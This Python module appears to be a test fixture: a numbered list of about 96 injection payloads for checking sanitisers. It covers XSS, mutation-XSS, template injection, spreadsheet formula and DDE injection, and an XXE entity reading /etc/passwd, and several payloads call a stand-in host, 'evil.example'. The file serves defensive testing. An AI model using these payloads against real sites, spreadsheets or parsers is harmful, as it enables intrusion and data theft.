"""Texts that try to become code, markup, formulas or links; our own collection.

Each calls ``__xss`` with its number where it gets to run. None is longer than a table's
name may be, so that every one of them fits into every field.
"""

from __future__ import annotations

SCRIPTS = (
    "<script>__xss(1)</script>",
    "<ScRiPt >__xss(2)</sCrIpT\t>",
    "<script src=//evil.example/3.js></script>",
    "<script/x>__xss(4)</script/x>",
    "<scr<script>ipt>__xss(5)</scr</script>ipt>",
    "</script><script>__xss(6)</script>",
    "</textarea><script>__xss(7)</script>",
    "</title></style><script>__xss(8)</script>",
    "<svg><script>__xss(9)</script></svg>",
    "<script type=module>__xss(10)</script>",
)
HANDLERS = (
    "<img src=x onerror=__xss(11)>",
    "<img/src=x/onerror=__xss(12)>",
    '"><img src=x onerror=__xss(13)>',
    "'><img src=x onerror=__xss(14)>",
    "<img src=x onerror=&#95;&#95;xss(15)>",
    "<IMG SRC=x oNeRrOr=__xss(16)>",
    "<svg onload=__xss(17)>",
    "<svg/onload=__xss(18)//",
    "<svg><animate onbegin=__xss(19) attributeName=x>",
    "<body onload=__xss(20)>",
    "<input autofocus onfocus=__xss(21)>",
    "<select autofocus onfocus=__xss(22)>",
    "<textarea autofocus onfocus=__xss(23)>",
    "<details open ontoggle=__xss(24)>x</details>",
    "<video><source onerror=__xss(25)></video>",
    "<audio src=x onerror=__xss(26)>",
    "<marquee onstart=__xss(27)>x</marquee>",
    "<xss id=x tabindex=1 onfocus=__xss(28)>x</xss>",
    '" autofocus onfocus=__xss(29) x="',
    "' onmouseover=__xss(30) x='",
    "<p style=animation-name:x onanimationstart=__xss(31)>",
    "<link rel=preload as=image href=x onerror=__xss(32)>",
)
FRAMES_AND_LINKS = (
    "<iframe src=javascript:parent.__xss(33)></iframe>",
    "<iframe srcdoc='<script>parent.__xss(34)</script>'>",
    "<object data=javascript:__xss(35)></object>",
    "<embed src=javascript:__xss(36)>",
    "<a href=javascript:__xss(37)>click</a>",
    "<a href='&#106;avascript:__xss(38)'>click</a>",
    "<a href='java\tscript:__xss(39)'>click</a>",
    "<form action=javascript:__xss(40)><button>b</form>",
    "<math><mi xlink:href=javascript:__xss(41)>x</math>",
    "<svg><a xlink:href=javascript:__xss(42)><text>x",
    "<base href=//evil.example/43/>",
    "<meta http-equiv=refresh content=0;//evil.example/44>",
    "javascript:__xss(45)",
    "data:text/html,<script>__xss(46)</script>",
    "https://evil.example/47 mailto:x@evil.example",
)
MUTATING = (
    "<math><mi><table><mglyph><style><img src onerror=__xss(48)",
    "<noscript><p title='</noscript><img src onerror=__xss(49)>'>",
    "<!--><img src=x onerror=__xss(50)>-->",
    "<![CDATA[><img src=x onerror=__xss(51)>]]>",
    "<template><img src=x onerror=__xss(52)></template>",
    "<svg></p><style><a id='</style><img src onerror=__xss(53)>'>",
    "<form><math><mi></form><form><mglyph><svg onload=__xss(54)",
    "<xmp><p title='</xmp><svg onload=__xss(55)>'>",
)
STYLES = (
    "<style>@import'//evil.example/56.css';</style>",
    "<div style=background:url(//evil.example/57)>",
    "<link rel=stylesheet href=//evil.example/58.css>",
    "</style><style>*{display:none}</style>59",
    "expression(__xss(60));}body{display:none}",
)
TEMPLATES = (
    "{{7*7}}{{constructor.constructor('__xss(61)')()}}",
    "${7*7}${__xss(62)}",
    "#{7*7}<%= 7*7 %>{% print(7*7) %}63",
    "{{''.__class__.__mro__[1].__subclasses__()}}64",
    "{%r if 1 %}{{r 7*7 }}{%p endif %}65",
    "{{ self.__init__.__globals__ }}66",
    "';__xss(67);//",
    '";__xss(68);//',
    "`${__xss(69)}`",
    "\\u003cscript\\u003e__xss(70)\\u003c/script\\u003e",
    "[click](javascript:__xss(71)) **bold** ![i](x)",
    "__proto__",
    "constructor",
)
ENTITIES_AND_UNICODE = (
    "&lt;script&gt;__xss(74)&lt;/script&gt;",
    "&#60;img src=x onerror=__xss(75)&#62;",
    "%3Cscript%3E__xss(76)%3C/script%3E",
    "\uff1cscript\uff1e__xss(77)\uff1c/script\uff1e",
    "<scr\u200bipt>__xss(78)</scr\u200bipt>",
    "\u202e>tpircs/<)97(ssx__>tpircs<",
    "\u2066<img src=x onerror=__xss(80)>\u2069",
    "<img src=x onerror=__xss(81)>\u0301\u0327\u202d",
)
DOCUMENT_CODE = (
    '=HYPERLINK("http://evil.example/82","click")',
    "=1+1+cmd|' /C calc'!A83",
    "@SUM(1+1)*cmd|' /C calc'!A84",
    "+1+1+cmd|' /C calc'!A85",
    "-2+3+cmd|' /C calc'!A86",
    '=IMPORTXML("http://evil.example/87","//a")',
    "{=WEBSERVICE(http://evil.example/88)}",
    '#import "/etc/passwd": * // 89',
    '#eval("7*7") #read("/etc/hostname") 90',
    '$ 7 * 7 $ *b* _i_ #link("http://evil.example/91")',
    "<w:p><w:r><w:instrText>92</w:instrText></w:r></w:p>",
    '<!DOCTYPE x [<!ENTITY a SYSTEM "/etc/passwd">]>&a;93',
    "]]><x>94</x><![CDATA[",
    "{ HYPERLINK http://evil.example/95 } { DDEAUTO c 96 }",
)

PAYLOADS = (
    *SCRIPTS,
    *HANDLERS,
    *FRAMES_AND_LINKS,
    *MUTATING,
    *STYLES,
    *TEMPLATES,
    *ENTITIES_AND_UNICODE,
    *DOCUMENT_CODE,
)
